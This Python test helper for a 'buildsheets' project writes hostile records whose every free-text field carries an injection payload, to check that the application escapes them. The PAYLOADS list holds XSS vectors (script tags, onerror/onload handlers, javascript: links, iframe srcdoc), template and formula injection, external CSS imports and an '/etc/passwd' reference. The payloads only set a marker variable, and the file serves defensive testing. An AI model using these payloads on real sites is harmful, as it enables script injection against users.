"""A library whose every free text, found by walking the declarations, tries to be more than text."""

from __future__ import annotations

import json
import types
from collections.abc import Iterator
from pathlib import Path
from typing import Annotated, Any, Union, get_args, get_origin, get_type_hints

from pydantic import BaseModel, StringConstraints
from pydantic.fields import FieldInfo

from buildsheets.records.declared import item_type, model_for
from buildsheets.records.models import Record, Stock
from buildsheets.records.reader import read_file

BUILDS = Path(__file__).resolve().parents[2] / "builds"
ELSEWHERE = "http://elsewhere.example/"  # nobody's, RFC 2606
PAYLOADS = (
    "\"'><script>window.bsHit=1</script><img src=x onerror=window.bsHit=2><svg/onload=window.bsHit=3>",
    "<!--sheet-body--> --></style></title></textarea></script><script>window.bsHit=4</script>{{ 7*7 }}{% raw %}{slug}",
    f"[x](javascript:window.bsHit=5) ![y]({ELSEWHERE}a.png) [z](data:text/html,<script>top.bsHit=6</script>) {{onclick=bsHit=7}}",
    f'=HYPERLINK("{ELSEWHERE}?"&A1,"x");=1+1;@SUM(A1);-2+3|+1',
    '" onmouseover="window.bsHit=8" autofocus onfocus="window.bsHit=9" style="background:url(//elsewhere.example/b)" x="',
    f'}}</style>@import url({ELSEWHERE}c.css); \\" url("{ELSEWHERE}d") */ $\\frac{{1}}{{0}}$ $x^$ \\input{{x}}',
    "a: b, c}] #d - *e &f !g | > ' ```\u2019 --8<-- \"/etc/passwd\" /// html | script",
    "]]> &#60;script&#62;bsHit=10&#60;/script&#62; \\u003cscript\\u003e &lt;img src=x onerror=bsHit=11&gt; <?xml?> <![CDATA[",
    "<iframe srcdoc='<script>parent.bsHit=12</script>'></iframe><base href=//elsewhere.example><meta http-equiv=refresh content=0>",
)
"""Each below 140 characters, so that a number fits behind it in the shortest text a record may have."""


class Writer:
    """Fills free texts with one payload, each with a number of its own behind it.

    Parameters
    ----------
    payload : str
        The text.
    picture : str
        What stands where a picture's file is wanted.
    letter : str
        Stands around the number.
    """

    def __init__(self, payload: str, picture: str, letter: str = "T") -> None:
        self.payload, self.picture, self.letter = payload, picture, letter
        self.written: list[str] = []  # texts of one line; longer ones may be Markdown

    def text(self, longest: int | None) -> str:
        words = f"{self.payload} {self.letter}{len(self.written)}{self.letter}"
        if longest is not None and longest < 1000:
            self.written.append(words)
            return words
        self.written.append("")
        return f"{words}\n\n{words}\n\n- {words}\n"

    def fill(self, model: type[BaseModel], group: dict[str, Any]) -> None:
        """Put the payload into every free text below a group, and make the groups that are absent but would hold some."""
        for name, hint in get_type_hints(model, include_extras=True).items():
            if name not in model.model_fields or name == "stock":  # a stock part's name is looked up, not shown
                continue
            found = _text_of(hint)
            if found is not None:
                constraints, is_list = found
                # the name of a file or of a scale is not just any words
                if not all(isinstance(note, StringConstraints | FieldInfo) for note in constraints):
                    group.update({name: self.picture} if name == "file" else {})
                    continue
                longest = next((note.max_length for note in constraints if isinstance(note, StringConstraints)), None)
                group[name] = [self.text(longest)] * 2 if is_list else self.text(longest)
            else:
                self._fill_below(model, name, group)

    def _fill_below(self, model: type[BaseModel], name: str, group: dict[str, Any]) -> None:
        annotation, value = model.model_fields[name].annotation, group.get(name)
        inside = item_type(annotation, [])
        if inside is not None:
            items = value if isinstance(value, list) else [{}]
            wanted = [model_for(inside, item) for item in items if isinstance(item, dict)]
            if wanted and wanted[0] is not None and (value or _holds_text(wanted[0])):
                group[name] = [self._filled(model_for(inside, item), item) for item in items]
            return
        if isinstance(value, int) and not isinstance(value, bool) and model_for(annotation, {}) is not None:
            value = {"teeth": value}  # a gear may be given by its teeth alone, or by all that is known of it
        below = model_for(annotation, value or {}) if value is None or isinstance(value, dict) else None
        if below is not None and (value or _holds_text(below)):
            group[name] = self._filled(below, value)

    def _filled(self, model: type[BaseModel] | None, value: dict[str, Any] | None) -> dict[str, Any]:
        assert model is not None
        group = dict(value or {})
        for name, field in model.model_fields.items():
            if field.is_required() and name not in group:
                group[name] = (field.examples or [{}])[0]
        self.fill(model, group)
        return group


def _text_of(hint: Any) -> tuple[tuple[Any, ...], bool] | None:
    """Return the constraints of a free text, and whether there is a list of them; None for anything else."""
    notes: tuple[Any, ...] = ()
    while True:
        if get_origin(hint) is Annotated:
            hint, *more = get_args(hint)
            notes += tuple(more)
        elif get_origin(hint) in (Union, types.UnionType):
            options = [option for option in get_args(hint) if option is not type(None)]
            if len(options) != 1:
                return None
            hint = options[0]
        elif get_origin(hint) is list:
            found = _text_of(get_args(hint)[0])
            return (found[0], True) if found else None
        else:
            break
    bound = any(isinstance(note, StringConstraints) and note.pattern for note in notes)
    return (notes, False) if hint is str and not bound else None


def _holds_text(model: type[BaseModel]) -> bool:
    return any(True for _ in texts_declared(model))


def texts_declared(*roots: type[BaseModel]) -> Iterator[tuple[str, str]]:
    """Every free text that may stand below some groups, as model and key."""
    seen: set[type[BaseModel]] = set()
    waiting: list[Any] = list(roots)
    while waiting:
        hint = waiting.pop()
        if isinstance(hint, type) and issubclass(hint, BaseModel):
            if hint in seen:
                continue
            seen.add(hint)
            hints = get_type_hints(hint, include_extras=True)
            yield from ((hint.__name__, name) for name, inner in hints.items() if name in hint.model_fields and _text_of(inner))
            waiting += [inner for name, inner in hints.items() if name in hint.model_fields]
        else:
            waiting += [inner for inner in get_args(hint) if not isinstance(inner, str)]


def data_of(path: Path) -> dict[str, Any]:
    """Return the plain data of a sound file."""
    document, problems = read_file(path, path.name)
    assert document is not None, problems
    data: dict[str, Any] = document.data
    return data


def write_hostile_library(folder: Path) -> dict[str, Writer]:
    """Write hostile records and stock after the demo's, and return what was written into each record, by slug.

    Parameters
    ----------
    folder : Path
        Where to.
    """
    from PIL import Image

    picture = "pictures/'\"><img src=x onerror=bsHit=20> &lt; {{x}}.png"
    (folder / "stock").mkdir(parents=True)
    (folder / "pictures").mkdir()
    Image.new("RGB", (40, 30), (90, 60, 30)).save(folder / picture)
    for number, path in enumerate(sorted((BUILDS / "stock").glob("*.yml"))):
        stock, writer = data_of(path), Writer(PAYLOADS[number], picture, "S")
        for section, parts in stock.items():
            if section != "format":
                model = model_for(item_type(Stock.model_fields[section].annotation, {}), {})
                assert model is not None
                for part in parts.values():
                    writer.fill(model, part)
        _write(folder / "stock" / path.name, stock)
    writers = {}
    demo = sorted(BUILDS.glob("*.yml"))
    for number, payload in enumerate(PAYLOADS):
        record, writer = data_of(demo[number % len(demo)]), Writer(payload, picture)
        record.pop("formerly", None)
        writer.fill(Record, record)
        record["formerly"] = [f"old-{number}"]
        writers[f"hostile-{number}"] = writer
        _write(folder / f"hostile-{number}.yml", record)
    return writers


def _write(path: Path, data: dict[str, Any]) -> None:
    path.write_text(json.dumps(data, ensure_ascii=False, indent=1), encoding="utf-8", newline="\n")
